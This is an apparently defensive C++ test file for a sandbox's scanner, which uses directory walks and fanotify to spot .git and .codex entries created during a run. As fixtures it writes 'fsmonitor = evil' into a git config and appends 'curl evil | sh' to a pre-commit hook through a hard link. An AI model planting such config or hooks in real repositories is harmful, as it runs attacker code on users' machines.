TEST(CreatedNamesScan, MoreDirectoriesThanTheDescriptorBudget) {
  Tree tree;
  for (int i = 0; i < 300; ++i)
    fs::create_directories(tree / ("a" + std::to_string(i % 7) + "/b" + std::to_string(i)));
  tree.file("a3/b3/.git/config");
  const std::int64_t start = start_after_setup();
  CreatedNamesLimits limits;
  limits.scan_descriptors = 16;
  const CreatedNamesWatch watch = watch_of({tree.root()});
  CreatedNamesScan scan(watch, start, scan_only(limits));
  CreatedNamesScan heard(watch, start, with_events(limits));
  scan.wait_until_scanned();
  tree.file("a5/b40/.git/hooks/x");
  tree.file("a6/b300/deep/.codex");
  std::ofstream(tree / "a3/b3/.git/config", std::ios::app) << "[core] fsmonitor = evil\n";
  const CreatedNames found = scan.finish();
  EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "a3/b3/.git", tree / "a5/b40/.git",
                                                   tree / "a6/b300/deep/.codex"}));
  EXPECT_EQ(found.paths, find_created_names(watch, start, limits).paths);
  EXPECT_FALSE(found.truncated);
  EXPECT_EQ(heard.finish().paths, found.paths) << "the events";
}

// A directory changed in the tick the scan read it, then again after: its ctime may be the
// same stamp both times, so it must be read again, never trusted. Filesystems that stamp a
// change after a stat with a finer time (multigrain timestamps) hide the case; ramfs stamps
// with the coarse clock, so the test runs there, in a child with its own mount namespace.
TEST(CreatedNamesScan, DirectoryChangedInTheTickItWasReadIsReadAgain) {
  Tree tree;
  fs::create_directories(tree / "ramfs");
  int fds[2];
  ASSERT_EQ(::pipe(fds), 0);
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    ::close(fds[0]);
    std::string out;
    const std::string root = tree / "ramfs";
    if (::unshare(CLONE_NEWNS) != 0 ||
        ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
        ::mount("ramfs", root.c_str(), "ramfs", 0, nullptr) != 0) {
      out = std::string("SKIP cannot mount a ramfs in a mount namespace: ") + std::strerror(errno);
    } else {
      int same_stamp = 0;
      int wrong = 0;
      for (int round = 0; round < 200 && wrong == 0; ++round) {
        const std::string dir = root + "/r" + std::to_string(round);
        fs::create_directories(dir + "/sub");
        const std::int64_t start = created_names_clock();
        const CreatedNamesWatch watch{{root}, {".git"}};
        fs::create_directories(dir + "/x" + std::to_string(round));  // dir's ctime: this tick
        CreatedNamesScan scan(watch, start, scan_only());
        scan.wait_until_scanned();  // no sleep: most likely still the same tick
        struct stat read_at {};
        ::stat(dir.c_str(), &read_at);
        std::ofstream(dir + "/.git") << "gitdir: /elsewhere\n";
        struct stat now {};
        ::stat(dir.c_str(), &now);
        if (now.st_ctim.tv_sec == read_at.st_ctim.tv_sec &&
            now.st_ctim.tv_nsec == read_at.st_ctim.tv_nsec)
          ++same_stamp;
        const CreatedNames found = scan.finish();
        if (found.paths != find_created_names(watch, start).paths) ++wrong;
        fs::remove(dir + "/.git");
      }
      out = "wrong " + std::to_string(wrong) + " same_stamp " + std::to_string(same_stamp);
    }
    report_and_exit(fds[1], out);
  }
  const std::optional<std::string> report = report_of_child(child, fds);
  ASSERT_TRUE(report) << "the child did not exit 0";
  const std::string& got = *report;
  if (got.rfind("SKIP", 0) == 0) GTEST_SKIP() << got;
  EXPECT_EQ(got.rfind("wrong 0 ", 0), 0u) << got;
  // The case must have been exercised (some change kept its directory's stamp): on a quiet
  // machine most rounds are; one loaded so heavily that no round fits in a tick says so.
  if (got.find("same_stamp 0") != std::string::npos)
    GTEST_SKIP() << "no change landed in the tick its directory was read in: " << got;
}

// An early end of the run (an error before finish) does not wait for a whole walk: the
// destructor stops the scan (or the events' thread). Here only that it returns and closes what
// it held.
TEST(CreatedNamesScan, DestroyedWithoutFinishing) {
  Tree tree;
  for (int i = 0; i < 200; ++i)
    fs::create_directories(tree / ("a" + std::to_string(i % 9) + "/b" + std::to_string(i)));
  for (const bool events : {false, true}) {
    const CreatedNamesLimits limits = events ? with_events() : scan_only();
    { CreatedNamesScan scan(watch_of({tree.root()}), created_names_clock(), limits); }
    CreatedNamesScan scan(watch_of({tree.root()}), created_names_clock(), limits);
    scan.wait_until_scanned();
  }
}

TEST(CreatedNamesScan, NoRootsNoScan) {
  for (const bool events : {false, true}) {
    CreatedNamesScan scan(CreatedNamesWatch{}, created_names_clock(),
                          events ? with_events() : scan_only());
    scan.wait_until_scanned();
    EXPECT_EQ(scan.event_roots(), 0u);
    const CreatedNames found = scan.finish();
    EXPECT_TRUE(found.paths.empty());
    EXPECT_FALSE(found.truncated);
  }
}

// A run starts its scan only once the sandbox's first process exists, after the start time
// was read and possibly after the command made changes: a name created before the scan read
// its directory, or while it reads, is still found, as the one-shot walk finds it.
// (The events' marks are placed at construction, before the command starts; only their reading
// thread waits for start().)
TEST(CreatedNamesScan, StartedLateFindsNamesCreatedBeforeItsStart) {
  for (const bool events : {false, true}) {
    SCOPED_TRACE(events ? "events" : "scan");
    Tree tree;
    tree.file("a/b/keep");
    tree.file("old/.git/config");
    const std::int64_t start = start_after_setup();
    const CreatedNamesWatch watch = watch_of({tree.root()});
    CreatedNamesScan scan(watch, start, events ? with_events() : scan_only(),
                          CreatedNamesScan::Deferred{});
    tree.file("a/b/.git/config");  // before the scan starts
    tree.file("c/.codex/x");
    scan.start();
    scan.start();  // a second start does nothing
    scan.wait_until_scanned();
    tree.file("a/.git");  // after it read everything
    const CreatedNames found = scan.finish();
    EXPECT_EQ(scan.events_fell_back(), "");
    EXPECT_EQ(found.paths,
              (std::vector<std::string>{tree / "a/.git", tree / "a/b/.git", tree / "c/.codex"}));
    EXPECT_EQ(found.paths, find_created_names(watch, start).paths);
  }
}

// A backend that never says its sandbox started leaves a deferred scan unstarted: finish()
// walks everything after the run, with the same answer; a start() after finish() does nothing.
// The events' queue is then read whole by finish().
TEST(CreatedNamesScan, NeverStartedFinishesWithTheOneShotWalk) {
  for (const bool events : {false, true}) {
    SCOPED_TRACE(events ? "events" : "scan");
    Tree tree;
    tree.file("a/b/keep");
    const std::int64_t start = start_after_setup();
    const CreatedNamesWatch watch = watch_of({tree.root()});
    CreatedNamesScan scan(watch, start, events ? with_events() : scan_only(),
                          CreatedNamesScan::Deferred{});
    scan.wait_until_scanned();  // returns at once: nothing was started
    tree.file("a/b/.git/config");
    const CreatedNames found = scan.finish();
    EXPECT_EQ(scan.events_fell_back(), "");
    EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "a/b/.git"}));
    scan.start();
  }
}

// The events where this process may watch (as root: CAP_SYS_ADMIN, CAP_DAC_READ_SEARCH), and
// every way they give up and let the walk answer instead.

// A run's CreatedNamesScan (default limits) watches with fanotify wherever the kernel lets this
// process do what it needs.
TEST(CreatedNamesEvents, UsedWhereThisProcessMayWatchTheFilesystem) {
  Tree tree;
  const std::string why = why_no_events(tree.root());
  CreatedNamesScan scan(watch_of({tree.root()}), created_names_clock());
  if (!why.empty()) {
    EXPECT_EQ(scan.event_roots(), 0u);
    GTEST_SKIP() << "fanotify is not available to this process (" << why
                 << "): its runs use the scan";
  }
  EXPECT_EQ(scan.event_roots(), 1u);
  tree.file("x/.git/config");
  EXPECT_EQ(scan.finish().paths, std::vector<std::string>{tree / "x/.git"});
  EXPECT_EQ(scan.events_fell_back(), "");
}

// An unprivileged user may not mark a filesystem (EPERM): the scan answers, as before.
TEST(CreatedNamesEvents, AnUnprivilegedUserKeepsTheScan) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root to become user 65534";
  Tree tree;
  fs::permissions(tree.root(), fs::perms::all);
  const std::int64_t start = start_after_setup();
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    if (::setgroups(0, nullptr) != 0 || ::setgid(65534) != 0 || ::setuid(65534) != 0) ::_exit(3);
    CreatedNamesScan scan(watch_of({tree.root()}), start);
    if (scan.event_roots() != 0) ::_exit(1);
    fs::create_directories(tree / "x/.git");
    std::ofstream(tree / "x/.git/config") << "[core]\n";
    ::_exit(scan.finish().paths == std::vector<std::string>{tree / "x/.git"} ? 0 : 2);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(child, &status, 0), child);
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0)
      << "1: user 65534 watched with fanotify, 2: the scan's answer differs, 3: no setuid";
}

// One detector with the events, skipped (saying why) where this process may not watch.
#define EVENTS_OR_SKIP(scan, tree)                                  \
  do {                                                              \
    if ((scan).event_roots() == 0)                                  \
      GTEST_SKIP() << "fanotify is not available to this process (" \
                   << why_no_events((tree).root()) << ")";          \
  } while (false)

// The kernel's queue overflowed (the reading thread never started here, so nothing drained it
// while more events came than it holds): the walk answers.
TEST(CreatedNamesEvents, QueueOverflowFallsBackToTheWalk) {
  // On a tmpfs where it can be watched: thousands of files are made there in a blink.
  Tree tree(why_no_events("/dev/shm").empty() ? "/dev/shm" : "/tmp");
  tree.file("old/.git/config");
  std::size_t queue = 16384;
  if (std::ifstream limit("/proc/sys/fs/fanotify/max_queued_events"); limit) limit >> queue;
  if (queue > 200000) GTEST_SKIP() << "the fanotify queue holds " << queue << " events here";
  const std::int64_t start = start_after_setup();
  const CreatedNamesWatch watch = watch_of({tree.root()});
  CreatedNamesScan scan(watch, start, with_events(), CreatedNamesScan::Deferred{});
  EVENTS_OR_SKIP(scan, tree);
  fs::create_directories(tree / "many");
  // Each empty file: a creation and a close after writing, two events.
  for (std::size_t i = 0; i < queue / 2 + 1000; ++i) {
    const int fd = ::open((tree / ("many/" + std::to_string(i))).c_str(),
                          O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    ASSERT_GE(fd, 0);
    ::close(fd);
  }
  tree.file("new/.git/config");
  std::ofstream(tree / "old/.git/config", std::ios::app) << "[core]\n";
  const CreatedNames found = scan.finish();
  EXPECT_NE(scan.events_fell_back().find("overflowed"), std::string::npos)
      << scan.events_fell_back();
  EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "new/.git", tree / "old/.git"}));
  EXPECT_EQ(found.paths, find_created_names(watch, start).paths);
}

// With the caller's stdin closed, no descriptor of the events takes its number, at any time: a
// command spawned meanwhile by another thread would get it as its stdin (a directory of the
// host, or the fanotify group itself).
TEST(CreatedNamesEvents, NoDescriptorTakesAClosedStandardOne) {
  Tree tree;
  tree.file("old/.git/config");
  const std::int64_t start = start_after_setup();
  const int saved = ::fcntl(0, F_DUPFD_CLOEXEC, 10);
  ASSERT_GE(saved, 0);
  ::close(0);
  bool taken = false;
  std::size_t roots = 0;
  CreatedNames found;
  {
    CreatedNamesScan scan(watch_of({tree.root()}), start, with_events());
    roots = scan.event_roots();
    taken = taken || ::fcntl(0, F_GETFD) != -1;
    for (int i = 0; i < 200 && !taken; ++i) {
      tree.file("d" + std::to_string(i) + "/f");  // directories for the thread to look up
      std::ofstream(tree / "old/.git/config", std::ios::app) << i << "\n";
      taken = ::fcntl(0, F_GETFD) != -1;
    }
    found = scan.finish();
    taken = taken || ::fcntl(0, F_GETFD) != -1;
  }
  ASSERT_EQ(::dup2(saved, 0), 0);
  ::close(saved);
  if (roots == 0)
    GTEST_SKIP() << "fanotify is not available to this process (" << why_no_events(tree.root())
                 << ")";
  EXPECT_FALSE(taken) << "a descriptor of the events took number 0";
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / "old/.git"});
}

// More changed places at or inside watched names than it keeps: the walk answers.
TEST(CreatedNamesEvents, TooManyChangedPlacesFallBackToTheWalk) {
  Tree tree;
  const std::int64_t start = start_after_setup();
  const CreatedNamesWatch watch = watch_of({tree.root()});
  CreatedNamesLimits limits = with_events();
  limits.max_changed = 3;
  CreatedNamesScan scan(watch, start, limits);
  EVENTS_OR_SKIP(scan, tree);
  for (int i = 0; i < 6; ++i) tree.file("r" + std::to_string(i) + "/.git/config");
  const CreatedNames found = scan.finish();
  EXPECT_NE(scan.events_fell_back().find("more than 3 changed places"), std::string::npos)
      << scan.events_fell_back();
  EXPECT_EQ(found.paths.size(), 6u);
  EXPECT_EQ(found.paths, find_created_names(watch, start).paths);
}

// A file written through a name outside every watched entry while it has another link: that
// other name may be inside one (a hook linked out of an old .git before the run), which no
// event names. The walk answers. Once the outside name is gone again, its one name is found.
TEST(CreatedNamesEvents, AFileWithSeveralLinksWrittenFallsBackToTheWalk) {
  for (const bool unlink_after : {false, true}) {
    SCOPED_TRACE(unlink_after ? "outside link removed after the write" : "both links stay");
    Tree tree;
    tree.file("old/.git/hooks/pre-commit", "#!/bin/sh\n");
    fs::create_hard_link(tree / "old/.git/hooks/pre-commit", tree / "innocent");
    const std::int64_t start = start_after_setup();
    const CreatedNamesWatch watch = watch_of({tree.root()});
    CreatedNamesScan scan(watch, start, with_events());
    EVENTS_OR_SKIP(scan, tree);
    std::ofstream(tree / "innocent", std::ios::app) << "curl evil | sh\n";
    if (unlink_after) fs::remove(tree / "innocent");
    const CreatedNames found = scan.finish();
    EXPECT_EQ(found.paths, std::vector<std::string>{tree / "old/.git"});
    EXPECT_EQ(found.paths, find_created_names(watch, start).paths);
    if (unlink_after) {
      EXPECT_EQ(scan.events_fell_back(), "");
    } else {
      EXPECT_NE(scan.events_fell_back().find("several links"), std::string::npos)
          << scan.events_fell_back();
    }
  }
}

// The one documented difference (created_names.hpp): a hard link made or removed elsewhere
// changes the link count, and so the ctime, of a file inside a watched entry, which the walk
// reports; the file's content, mode and names inside the entry are unchanged, and the events
// do not report it.
TEST(CreatedNamesEvents, ALinkCountChangeAloneIsNotReported) {
  Tree tree;
  tree.file("old/.git/hooks/pre-commit", "#!/bin/sh\n");
  const std::int64_t start = start_after_setup();
  const CreatedNamesWatch watch = watch_of({tree.root()});
  CreatedNamesScan scan(watch, start, with_events());
  EVENTS_OR_SKIP(scan, tree);
  fs::create_hard_link(tree / "old/.git/hooks/pre-commit", tree / "linked");
  EXPECT_TRUE(scan.finish().paths.empty());
  EXPECT_EQ(scan.events_fell_back(), "");
  EXPECT_EQ(find_created_names(watch, start).paths, std::vector<std::string>{tree / "old/.git"});
}

// The bounds hold inside an entry the events point at: it is examined as the walk examines it.
TEST(CreatedNamesEvents, BoundsHoldInsideAnEntry) {
  Tree tree;
  const std::int64_t start = start_after_setup();
  CreatedNamesLimits limits = with_events();
  limits.max_entries = 10;
  CreatedNamesScan scan(watch_of({tree.root()}), start, limits);
  EVENTS_OR_SKIP(scan, tree);
  for (int i = 0; i < 50; ++i) tree.file("r/.git/objects/" + std::to_string(i));
  const CreatedNames found = scan.finish();
  EXPECT_EQ(scan.events_fell_back(), "");
  EXPECT_TRUE(found.truncated);
}

// A mount made below a root during the run (the handles were resolved through the mounts seen
// at the start): the walk answers. Run in a child with its own mount namespace.
TEST(CreatedNamesEvents, AMountMadeBelowARootDuringTheRunFallsBackToTheWalk) {
  Tree tree;
  fs::create_directories(tree / "bind");
  tree.file("src/keep");
  const std::int64_t start = start_after_setup();
  int fds[2];
  ASSERT_EQ(::pipe(fds), 0);
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    ::close(fds[0]);
    std::string out;
    if (::unshare(CLONE_NEWNS) != 0 ||
        ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) {
      out = std::string("SKIP no mount namespace: ") + std::strerror(errno);
    } else {
      CreatedNamesScan scan(watch_of({tree.root()}), start, with_events());
      scan.wait_until_scanned();  // its thread has read the mounts
      if (scan.event_roots() == 0) {
        out = "SKIP fanotify is not available to this process (" + why_no_events(tree.root()) + ")";
      } else if (::mount((tree / "src").c_str(), (tree / "bind").c_str(), nullptr, MS_BIND,
                         nullptr) != 0) {
        out = std::string("SKIP cannot bind mount: ") + std::strerror(errno);
      } else {
        tree.file("src/x/.git/config");
        const CreatedNames found = scan.finish();
        out = scan.events_fell_back() + "\n";
        for (const std::string& path : found.paths) out += path + "\n";
      }
    }
    report_and_exit(fds[1], out);
  }
  const std::optional<std::string> report = report_of_child(child, fds);
  ASSERT_TRUE(report) << "the child did not exit 0";
  if (report->rfind("SKIP", 0) == 0) GTEST_SKIP() << *report;
  EXPECT_EQ(*report, "the mounts below a writable root changed during the run\n" +
                         tree / "bind/x/.git" + "\n" + tree / "src/x/.git" + "\n");
}

}  // namespace
}  // namespace sbx
